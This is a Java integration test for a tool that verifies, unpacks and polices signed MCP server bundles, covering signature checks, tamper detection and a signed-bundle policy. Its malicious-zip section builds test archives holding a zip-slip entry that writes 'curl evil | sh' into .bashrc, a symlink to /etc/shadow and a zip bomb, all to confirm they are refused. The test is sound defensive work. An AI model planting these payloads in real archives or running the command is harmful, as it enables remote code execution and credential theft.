package dev.mcpcontain.it;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.mcpcontain.bundle.CraftedZip;
import dev.mcpcontain.bundle.TestSigner;
import dev.mcpcontain.registry.AdminPolicy;
import dev.mcpcontain.testing.Fixtures;
import dev.mcpcontain.testing.McpContainCli;
import dev.mcpcontain.testing.TestServers;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeSet;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * {@code add FILE.mcpb} end to end with bundles made by the real MCPB CLI ({@code @anthropic-ai/mcpb}, installed by
 * scripts/install-test-servers): the real server-filesystem with its node_modules packed, then signed self-signed
 * and with a certificate from a test CA made here with openssl. A self-signed bundle is added (flagged), run by name
 * through the MCP Inspector CLI, and refused once its unpacked copy in the store is changed; a bundle changed after
 * signing and malicious zips (zip-slip, symlink, bomb) are refused with exact messages and leave nothing in the
 * store; requireSignedBundles accepts the CA-signed bundle (the CA listed in bundle-signers.pem beside the policy)
 * and refuses unsigned, self-signed and manifest-folder bundles, at add and at run.
 */
class BundleIT {

    private static final ObjectMapper JSON = new ObjectMapper();

    @TempDir
    Path temp;

    private McpContainCli cli;
    private final List<String> registered = new ArrayList<>();

    private record Result(int code, String out, String err) {}

    @AfterEach
    void removeRegistrations() throws Exception {
        for (String name : registered) {
            run(List.of("remove", name));
        }
        dev.mcpcontain.testing.ChildProcesses.awaitExit();
    }

    private Result run(List<String> args) throws Exception {
        return exec(cli.command(args.toArray(String[]::new)), null);
    }

    private Result exec(List<String> command, Path directory) throws Exception {
        ProcessBuilder builder = new ProcessBuilder(command).directory((directory == null ? temp : directory).toFile());
        builder.environment().putAll(cli.env());
        Path out = Files.createTempFile(temp, "out", ".txt");
        Path err = Files.createTempFile(temp, "err", ".txt");
        builder.redirectOutput(out.toFile()).redirectError(err.toFile())
                .redirectInput(ProcessBuilder.Redirect.from(new java.io.File("/dev/null")));
        Process p = builder.start();
        if (!p.waitFor(300, TimeUnit.SECONDS)) {
            p.destroyForcibly();
            fail("timed out: " + command);
        }
        return new Result(p.exitValue(), Files.readString(out), Files.readString(err));
    }

    private Path mcpb() {
        Path bin = TestServers.PREFIX.resolve("mcpb/node_modules/.bin/mcpb");
        if (!Files.isExecutable(bin)) {
            fail(bin + " missing: run scripts/install-test-servers");
        }
        return bin;
    }

    private void tool(Path directory, String... command) throws Exception {
        Result r = exec(List.of(command), directory);
        assertEquals(0, r.code(), String.join(" ", command) + ": " + r.out() + r.err());
    }

    /**
     * server-filesystem with its dependencies, copied from the installed test servers (no network): the packages
     * its package.json files reach, resolved as node does (nested node_modules first, then the hoisted ones).
     */
    private Path bundleFolder() throws Exception {
        Path dir = Files.createDirectories(temp.resolve("bundle-src"));
        Path modules = TestServers.PREFIX.resolve("node_modules");
        java.util.ArrayDeque<Path> pending = new java.util.ArrayDeque<>();
        java.util.Set<Path> seen = new java.util.HashSet<>();
        pending.add(TestServers.packageDirectory("server-filesystem"));
        while (!pending.isEmpty()) {
            Path pkg = pending.poll();
            if (!seen.add(pkg)) {
                continue;
            }
            if (pkg.getParent().equals(modules) || pkg.getParent().getParent().equals(modules)
                    && pkg.getParent().getFileName().toString().startsWith("@")) {
                copyTree(pkg, dir.resolve("node_modules").resolve(modules.relativize(pkg)));
            }
            JsonNode manifest = JSON.readTree(pkg.resolve("package.json").toFile());
            for (String field : List.of("dependencies", "optionalDependencies", "peerDependencies")) {
                for (java.util.Iterator<String> it = manifest.path(field).fieldNames(); it.hasNext();) {
                    String dep = it.next();
                    Path found = null;
                    for (Path p = pkg; p != null && p.startsWith(TestServers.PREFIX) && found == null; p = p.getParent()) {
                        Path candidate = p.resolve("node_modules").resolve(dep);
                        found = Files.isRegularFile(candidate.resolve("package.json")) ? candidate : null;
                    }
                    if (found != null) {
                        pending.add(found);
                    } else if (field.equals("dependencies")) {
                        fail(pkg + ": dependency " + dep + " is not installed under " + TestServers.PREFIX);
                    }
                }
            }
        }
        ObjectNode manifest = (ObjectNode) Fixtures.json(Fixtures.MANIFEST);
        manifest.remove("_meta"); // no static tools: the first run pins what the server lists
        String entry = "node_modules/@modelcontextprotocol/server-filesystem/dist/index.js";
        ((ObjectNode) manifest.get("server")).put("entry_point", entry);
        ((ArrayNode) manifest.at("/server/mcp_config/args")).set(0, "${__dirname}/" + entry);
        Files.writeString(dir.resolve("manifest.json"), JSON.writerWithDefaultPrettyPrinter()
                .writeValueAsString(manifest));
        return dir;
    }

    private static void copyTree(Path from, Path to) throws Exception {
        try (Stream<Path> all = Files.walk(from)) {
            for (Path p : (Iterable<Path>) all::iterator) {
                Path target = to.resolve(from.relativize(p).toString());
                if (Files.isDirectory(p, java.nio.file.LinkOption.NOFOLLOW_LINKS)) {
                    Files.createDirectories(target);
                } else if (Files.isRegularFile(p, java.nio.file.LinkOption.NOFOLLOW_LINKS)) {
                    Files.copy(p, target, java.nio.file.StandardCopyOption.COPY_ATTRIBUTES);
                }
            }
        }
    }

    private Path codeRoot() {
        return temp.resolve("state/data-servers");
    }

    private TreeSet<String> storeListing() throws Exception {
        TreeSet<String> names = new TreeSet<>();
        for (Path dir : List.of(codeRoot(), temp.resolve("state/data/registry"))) {
            if (Files.isDirectory(dir)) {
                try (Stream<Path> s = Files.list(dir)) {
                    s.forEach(p -> names.add(dir.getFileName() + "/" + p.getFileName()));
                }
            }
        }
        return names;
    }

    /** The add is refused with exactly {@code message} (exit 125) and the store is as it was. */
    private void refusedAdd(Path bundle, String message, String... extra) throws Exception {
        TreeSet<String> before = storeListing();
        List<String> args = new ArrayList<>(List.of("add", bundle.toString()));
        args.addAll(List.of(extra));
        Result r = run(args);
        assertEquals(125, r.code(), r.err());
        assertEquals("", r.out());
        assertTrue(r.err().contains("mcp-contain: " + message + "\n"), "expected '" + message + "' in:\n" + r.err());
        assertEquals(before, storeListing(), "nothing is left in the store after: " + message);
    }

    @Test
    void realBundlesAreVerifiedUnpackedRunByNameAndPoliced() throws Exception {
        assertFalse(Files.exists(AdminPolicy.SYSTEM_FILE), AdminPolicy.SYSTEM_FILE + " exists: this test needs a host"
                + " without an admin policy (its override is honoured only then)");
        cli = new McpContainCli(temp);
        String helper = System.getProperty("mcp.contain.helper");
        if (helper != null) {
            cli.env().put("MCP_CONTAIN_HELPER", helper);
        }
        Path sandbox = Files.createDirectories(cli.home().resolve("notes")).toRealPath();
        Files.writeString(sandbox.resolve("a.txt"), "unpacked, signed and contained\n");
        Path folder = bundleFolder();
        Path unsigned = temp.resolve("fs.mcpb");
        tool(temp, mcpb().toString(), "pack", folder.toString(), unsigned.toString());
        Path selfSigned = Files.copy(unsigned, temp.resolve("fs-self.mcpb"));
        tool(temp, mcpb().toString(), "sign", selfSigned.toString(), "--self-signed");
        TestSigner keys = new TestSigner(Files.createDirectories(temp.resolve("keys")));
        Path caSigned = Files.copy(unsigned, temp.resolve("fs-ca.mcpb"));
        tool(keys.dir, mcpb().toString(), "sign", caSigned.toString(), "--cert", "leaf.pem", "--key", "leaf.key",
                "--intermediate", "ca.pem");

        // Self-signed: added and flagged, shown as such, run by name through a real client.
        String self = "it-mcpb-self";
        Result add = run(List.of("add", selfSigned.toString(), "--name", self, "--grant", sandbox + ":rw",
                "--user-config", "allowed_directories=" + sandbox));
        assertEquals(0, add.code(), add.err());
        registered.add(self);
        assertEquals("", add.out());
        assertTrue(add.err().contains("mcp-contain: warning: '" + self + "' is self-signed by "), add.err());
        JsonNode shown = JSON.readTree(run(List.of("show", self, "--json")).out());
        assertEquals("self-signed", shown.at("/signature/status").asText(), shown.toString());
        assertEquals("mcpb", shown.path("source").asText());
        Path code = codeRoot().resolve(self);
        assertEquals(code.toString(), shown.at("/code/path").asText());
        assertTrue(Files.isRegularFile(code.resolve("node_modules/@modelcontextprotocol/server-filesystem/dist/index.js")));
        JsonNode listed = null;
        for (JsonNode s : JSON.readTree(run(List.of("list", "--json")).out()).path("servers")) {
            listed = s.path("name").asText().equals(self) ? s : listed;
        }
        assertTrue(listed != null && listed.at("/packages/0/registryType").asText().equals("mcpb")
                && listed.at("/_meta/dev.mcpcontain~1registration/signature/status").asText().equals("self-signed"),
                String.valueOf(listed));
        Result call = inspector(self, List.of("--method", "tools/call", "--tool-name", "read_text_file",
                "--tool-arg", "path=" + sandbox.resolve("a.txt")));
        assertEquals(0, call.code(), call.out() + call.err());
        assertTrue(call.out().contains("unpacked, signed and contained"), call.out() + call.err());

        // The unpacked copy in the store changed: refused at run, naming the update command.
        Path index = code.resolve("node_modules/@modelcontextprotocol/server-filesystem/dist/index.js");
        byte[] original = Files.readAllBytes(index);
        Files.write(index, (new String(original, StandardCharsets.UTF_8) + "\n// changed\n")
                .getBytes(StandardCharsets.UTF_8));
        Result tampered = run(List.of("run", "--dry-run", self));
        assertEquals(125, tampered.code(), tampered.err());
        assertTrue(tampered.err().contains("changed since it was registered") && tampered.err()
                .contains("mcp-contain update " + self), tampered.err());
        Files.write(index, original);
        assertEquals(0, run(List.of("run", "--dry-run", self)).code(), "the original bytes hash as registered");

        // A signed bundle changed after signing (one byte of its zip): refused, nothing stored.
        byte[] bytes = Files.readAllBytes(caSigned);
        bytes[100] ^= 1;
        Path changed = Files.write(temp.resolve("fs-changed.mcpb"), bytes);
        refusedAdd(changed, changed + ": signature does not match the bundle's content (changed after it was"
                + " signed); refusing it");

        // Malicious zips: exact refusals, nothing left behind.
        Path slip = Files.write(temp.resolve("slip.mcpb"), new CraftedZip().file("manifest.json", "{}")
                .file("../../../.bashrc", "curl evil | sh").bytes());
        refusedAdd(slip, slip + ": entry '../../../.bashrc' climbs out of the bundle ('..'; zip-slip); nothing was"
                + " unpacked");
        Path link = Files.write(temp.resolve("link.mcpb"), new CraftedZip().file("manifest.json", "{}")
                .add(new CraftedZip.Entry("server/index.js", "/etc/shadow".getBytes(StandardCharsets.UTF_8), 0120777,
                        false, -1)).bytes());
        refusedAdd(link, link + ": entry 'server/index.js' is a symbolic link (bundles may hold only files and"
                + " folders); nothing was unpacked");
        byte[] zeros = new byte[64 << 20];
        Path bomb = Files.write(temp.resolve("bomb.mcpb"), new CraftedZip().file("manifest.json", "{}")
                .add(new CraftedZip.Entry("server/data.bin", zeros, 0100644, true, -1)).bytes());
        refusedAdd(bomb, bomb + ": entry 'server/data.bin' expands " + CraftedZip.deflate(zeros).length
                + " bytes to " + zeros.length + " (more than 100:1; a zip bomb); nothing was unpacked");

        // requireSignedBundles, with the test CA listed beside the policy.
        Path etc = Files.createDirectories(temp.resolve("etc-mcp-contain"));
        Files.setPosixFilePermissions(etc, PosixFilePermissions.fromString("rwxr-xr-x"));
        Path policy = etc.resolve("policy.json");
        Files.writeString(policy, "{\"requireSignedBundles\":true}");
        Files.copy(keys.dir.resolve("ca.pem"), etc.resolve("bundle-signers.pem"));
        for (Path p : List.of(policy, etc.resolve("bundle-signers.pem"))) {
            Files.setPosixFilePermissions(p, PosixFilePermissions.fromString("rw-r--r--"));
        }
        cli.env().put(AdminPolicy.OVERRIDE_VARIABLE, policy.toString());
        String trusted = "it-mcpb-ca";
        Result ca = run(List.of("add", caSigned.toString(), "--name", trusted, "--grant", sandbox + ":rw",
                "--user-config", "allowed_directories=" + sandbox));
        assertEquals(0, ca.code(), ca.err());
        registered.add(trusted);
        assertTrue(ca.err().contains("mcp-contain: '" + trusted + "' is signed by CN=Test Publisher (chain to"
                + " CN=mcp-contain Test CA in " + etc.resolve("bundle-signers.pem") + ")"), ca.err());
        assertEquals(0, run(List.of("run", "--dry-run", trusted)).code());
        Result callTrusted = inspector(trusted, List.of("--method", "tools/call", "--tool-name", "read_text_file",
                "--tool-arg", "path=" + sandbox.resolve("a.txt")));
        assertEquals(0, callTrusted.code(), callTrusted.out() + callTrusted.err());
        assertTrue(callTrusted.out().contains("unpacked, signed and contained"), callTrusted.out());
        refusedAdd(unsigned, policy + ": requireSignedBundles: 'secure-filesystem-server' is a bundle without a"
                + " verified signature");
        refusedAdd(selfSigned, policy + ": requireSignedBundles: 'secure-filesystem-server' is a bundle without a"
                + " verified signature");
        refusedAdd(folder.resolve("manifest.json"), policy + ": requireSignedBundles: 'secure-filesystem-server' is"
                + " a bundle without a verified signature");
        Result selfRun = run(List.of("run", "--dry-run", self));
        assertEquals(125, selfRun.code(), selfRun.err());
        assertTrue(selfRun.err().contains(policy + ": requireSignedBundles: '" + self + "'"), selfRun.err());
        // Without the CA in the list, the CA-signed bundle is untrusted: refused at run and at add.
        Files.delete(etc.resolve("bundle-signers.pem"));
        Result withdrawn = run(List.of("run", "--dry-run", trusted));
        assertEquals(125, withdrawn.code(), withdrawn.err());
        assertTrue(withdrawn.err().contains(policy + ": requireSignedBundles: '" + trusted + "'"), withdrawn.err());
        Result untrusted = run(List.of("add", caSigned.toString(), "--name", "it-mcpb-untrusted"));
        assertEquals(125, untrusted.code(), untrusted.err());
        assertTrue(untrusted.err().contains("requireSignedBundles"), untrusted.err());
        cli.env().remove(AdminPolicy.OVERRIDE_VARIABLE);
    }

    private Result inspector(String name, List<String> request) throws Exception {
        Path bin = TestServers.PREFIX.resolve("inspector/node_modules/.bin/mcp-inspector");
        if (!Files.isExecutable(bin)) {
            fail(bin + " missing: run scripts/install-test-servers");
        }
        List<String> command = new ArrayList<>(List.of(bin.toString(), "--cli"));
        for (Map.Entry<String, String> e : cli.env().entrySet()) {
            command.add("-e");
            command.add(e.getKey() + "=" + e.getValue());
        }
        command.add(TestServers.PROJECT.resolve("scripts/mcp-contain").toString());
        command.add("run");
        command.add(name);
        command.addAll(request);
        return exec(command, null);
    }
}
